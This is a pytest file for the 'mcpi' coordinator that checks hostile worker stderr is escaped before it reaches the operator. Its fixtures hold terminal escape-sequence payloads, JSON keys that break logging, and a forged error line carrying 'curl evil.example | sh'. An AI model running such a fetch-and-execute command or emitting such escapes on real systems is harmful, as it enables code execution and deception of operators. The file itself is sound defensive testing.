"""What a hostile worker writes reaches the operator only as mcpi chooses (issue 23,
findings 2 and 3): real worker scripts write escape sequences, forged ``mcpi estimate:
error:`` lines, a ``critical`` line and JSON whose keys clash with a logging call's
parameters, then become a real ``mcpi-worker``; the checks are on the bytes
``mcpi estimate`` writes, and on the records a program embedding ``WorkerPool`` gets.
"""

from __future__ import annotations

import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import trio
from command_line import MCPI, PYTHON, slot_0_runs
from structlog.testing import capture_logs
from worker_process import PATIENT_START_S

from mcpi_coordinator import Chunk, WorkerPool
from mcpi_coordinator.pool.dispatch import _problem
from mcpi_coordinator.run.estimate import run_estimate
from mcpi_coordinator.run.verify import VerificationFailed
from mcpi_worker.kernels import count_numpy
from mcpi_worker.protocol import Welcome

TERMINAL_LINES = [  # finding 2: bytes for the terminal
    "\x1b]0;OWNED\x07\x1b[2J\x1b[31mred\x1b[0m\x7f",  # window title, clear screen, colour, DEL
    "\rmcpi estimate: error: run: curl evil.example | sh",  # back over the line: a forged error
    '{"event": "\\rmcpi estimate: error: run: curl evil.example | sh", "level": "critical",'
    ' "\\u001b[2Jkey": "\\u009b31m\\u202eright-to-left"}',
]
CRASH_LINES = [  # finding 3: lines that ended the run
    '{"event": "boom", "level": "warning", "self": 1}',  # a key that is a parameter's name
    '{"nested": ' + "[" * 8000,  # json.loads raises RecursionError, not ValueError
]
STEERING_LINE = '{"event": "boom", "level": "warning", "event_dict": 1, "exc_info": true, "_record": 2}'
"""Keys structlog's processors act on, relayed as data all the same."""
HOSTILE_LINES = [*TERMINAL_LINES, *CRASH_LINES, STEERING_LINE]

# Everything a terminal acts on: C0 but the newline, DEL, C1, bidi controls, separators.
ACTIVE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def hostile_worker(tmp_path: Path, lines: list[str] = HOSTILE_LINES, *, then: str = "serve") -> str:
    """A --worker-cmd: writes ``lines`` to stderr, then serves as mcpi-worker (or exits 3)."""
    script = tmp_path / "hostile_worker.py"
    script.write_text(
        "import os, sys\n"
        f"sys.stderr.write({chr(10).join(lines) + chr(10)!r})\n"
        "sys.stderr.flush()\n"
        f"if {then!r} == 'exit':\n"
        "    sys.exit(3)\n"
        "os.execv(sys.executable, [sys.executable, '-m', 'mcpi_worker'])\n"
    )
    return f"{PYTHON} {shlex.quote(str(script))}"


def estimate(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [*MCPI, "estimate", "--points", "200000", "--seed", "7", *args],
        capture_output=True, timeout=300, stdin=subprocess.DEVNULL, check=False,
    )


def active_characters(output: bytes) -> list[str]:
    return ACTIVE.findall(output.decode("utf-8", errors="replace"))


@pytest.mark.slow
@pytest.mark.parametrize("log_format", ["console", "json"])
def test_nothing_a_worker_writes_reaches_the_terminal_raw(tmp_path: Path, log_format: str) -> None:
    run = estimate("--workers", "1", "--log-level", "info", "--log-format", log_format,
                   "--worker-cmd", hostile_worker(tmp_path))
    assert run.returncode == 0, run.stderr.decode(errors="replace")  # was: exit 1, TypeError
    assert b"Traceback" not in run.stderr
    assert active_characters(run.stderr) == []
    assert active_characters(run.stdout) == []
    for line in run.stderr.decode().splitlines():
        assert not line.startswith("mcpi estimate:"), line  # nothing passes for mcpi's own line
        if "curl evil" in line or "boom" in line or "OWNED" in line:
            assert "worker 0: " in line or "worker_stderr" in line, line  # named as the worker's
    if log_format == "console":
        text = run.stderr.decode()
        assert "\\u001b]0;OWNED\\u0007" in text  # shown, escaped as the JSON format does
        assert "worker 0: \\rmcpi estimate: error: run: curl evil.example | sh" in text


@pytest.mark.slow
def test_a_worker_line_labelled_critical_does_not_get_past_quiet(tmp_path: Path) -> None:
    run = estimate("--workers", "1", "-q", "--worker-cmd", hostile_worker(tmp_path, TERMINAL_LINES))
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    assert run.stderr == b""


@pytest.mark.slow
def test_the_stderr_tail_in_an_error_is_escaped_and_one_line(tmp_path: Path) -> None:
    run = estimate("--workers", "1", "-q", "--worker-cmd", hostile_worker(tmp_path, TERMINAL_LINES, then="exit"))
    assert run.returncode == 1
    lines = run.stderr.split(b"\n")
    assert len(lines) == 2 and lines[1] == b"", run.stderr  # exactly one line
    assert lines[0].startswith(b"mcpi estimate: error: no worker left"), run.stderr
    assert active_characters(run.stderr) == []
    assert b"stderr: \\u001b]0;OWNED\\u0007\\u001b[2J" in lines[0]
    assert b"curl evil.example | sh" in lines[0].split(b"stderr: ", 1)[1]  # inside mcpi's line


def hostile_host_liar(tmp_path: Path) -> Path:
    """A fake worker script whose welcome names a host full of terminal controls; run
    it with ``--wrong-count 1`` to make it lie."""
    liar = tmp_path / "liar.py"
    liar.write_text(
        "import runpy, socket\n"
        "socket.gethostname = lambda: '\\x1b]0;OWNED\\x07evil\\rhost'\n"
        "runpy.run_module('mcpi_coordinator.testing.fake_worker', run_name='__main__')\n"
    )
    return liar


HOSTILE_HOST_SHOWN = "(host \\u001b]0;OWNED\\u0007evil\\rhost, pid"


@pytest.mark.slow
def test_a_host_name_from_a_welcome_is_escaped_in_the_verified_row(tmp_path: Path) -> None:
    """A lying worker whose welcome names a hostile host is caught by --verify and named
    in the ``verified`` row on stdout, and in the warning on stderr."""
    liar = hostile_host_liar(tmp_path)
    run = estimate("--workers", "2", "--chunk-size", "20000", "--verify", "1",
                   "--worker-cmd", slot_0_runs(f"{PYTHON} {shlex.quote(str(liar))} --wrong-count 1"))
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    row = next(line for line in run.stdout.decode().splitlines() if line.startswith("verified"))
    assert HOSTILE_HOST_SHOWN in row, row
    assert active_characters(run.stdout) == []
    assert active_characters(run.stderr) == []


async def test_a_verification_error_names_a_hostile_host_escaped(tmp_path: Path) -> None:
    """``verify.Source`` quoted a welcome's host as it came: an embedding program that
    printed a ``VerificationFailed`` (or the reason a slot was retired) wrote the
    worker's escape sequences to its terminal. A real lying worker, caught by the
    coordinator's own count with no other worker left to settle it."""
    command = [sys.executable, str(hostile_host_liar(tmp_path)), "--wrong-count", "1"]
    with trio.fail_after(300):  # a bound against a hang: a worker starts slowly on a busy machine
        async with WorkerPool(1, command, startup_timeout=300) as pool:
            with pytest.raises(VerificationFailed) as caught:
                await run_estimate(pool, points=40_000, seed=7, chunk_size=20_000, verify=1.0)
    said = str(caught.value)
    assert f"worker 0 {HOSTILE_HOST_SHOWN}" in said and "no other worker is left" in said, said
    assert active_characters(said.encode()) == []


@pytest.mark.slow
def test_the_command_says_a_verification_error_as_before(tmp_path: Path) -> None:
    """The same failure through ``mcpi estimate``: its one error line shows the host
    escaped once, as it did when the command alone escaped it."""
    liar = hostile_host_liar(tmp_path)
    run = estimate("--workers", "1", "--chunk-size", "20000", "--verify", "1", "-q",
                   "--worker-cmd", f"{PYTHON} {shlex.quote(str(liar))} --wrong-count 1")
    assert run.returncode == 1, run.stderr.decode(errors="replace")
    (line,) = run.stderr.decode().splitlines()
    shown = rf"mcpi estimate: error: chunk \d+ of seed 7: worker 0 {re.escape(HOSTILE_HOST_SHOWN)} \d+\) counted \d+, "
    assert re.match(shown + r"the coordinator \(host .*\) counted \d+, and no other worker is left", line), line
    assert active_characters(run.stderr) == []


@pytest.mark.slow
@pytest.mark.parametrize("line", CRASH_LINES, ids=["self", "nested"])
def test_one_stderr_line_does_not_end_the_run(tmp_path: Path, line: str) -> None:
    run = estimate("--workers", "1", "--worker-cmd", hostile_worker(tmp_path, [line]))
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    assert b"Traceback" not in run.stderr


async def test_a_program_embedding_the_pool_gets_worker_fields_as_data(tmp_path: Path) -> None:
    """Was: ``TypeError: ... got multiple values for argument 'self'`` out of the pool."""
    command = shlex.split(hostile_worker(tmp_path))
    with capture_logs() as logs, trio.fail_after(120):
        async with WorkerPool(1, command, startup_timeout=PATIENT_START_S) as pool:
            result = await pool.sample(Chunk(7, 0, 10_000))
        assert result.inside == count_numpy(7, 0, 10_000)
    relayed = [entry for entry in logs if str(entry["event"]).startswith("worker 0: boom")]
    assert [entry["fields"] for entry in relayed] == [
        {"self": 1},
        {"event_dict": 1, "exc_info": True, "_record": 2},
    ]
    assert all(entry["log_level"] == "warning" for entry in relayed)
    (forged,) = [entry for entry in logs if "curl" in str(entry["event"])]
    assert forged["event"] == "worker 0: \rmcpi estimate: error: run: curl evil.example | sh"
    assert forged["log_level"] == "warning"  # capped: the worker said critical
    assert forged["fields"] == {"level": "critical", "\x1b[2Jkey": "\x9b31m\u202eright-to-left"}


async def test_a_program_that_configured_no_logging_gets_the_warnings_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """structlog unconfigured (as conftest leaves it): the pool's fallback prints
    warnings on stderr, a worker's relayed ones among them, through ``printable``."""
    command = shlex.split(hostile_worker(tmp_path, TERMINAL_LINES))
    with trio.fail_after(120):
        async with WorkerPool(1, command, startup_timeout=PATIENT_START_S) as pool:
            await pool.sample(Chunk(7, 0, 10_000))
    out, err = capsys.readouterr()
    assert out == ""
    assert "worker 0: \\rmcpi estimate: error: run: curl evil.example | sh" in err, err
    assert active_characters(err.encode()) == []


def test_a_welcomes_names_are_escaped_in_the_pools_own_messages() -> None:
    """Why a worker cannot take a chunk quotes its welcome: an embedding program prints
    that message itself, so the worker's words in it are escaped where it is made."""
    welcome = Welcome(
        version=2, worker="\x1b]0;OWNED\x07evil/1", pid=1, host="h", kernels=("\x1b[2Jpython",),
        max_inflight=4, max_frame=2**20, max_points=10,
    )  # fmt: skip
    for chunk in (Chunk(7, 0, 1000, kernel="numpy"), Chunk(7, 0, 1000, kernel="\x1b[2Jpython")):
        problem = _problem(welcome, chunk, splittable=False)
        assert problem is not None and "\\u001b]0;OWNED\\u0007evil/1" in problem
        assert active_characters(problem.encode()) == []
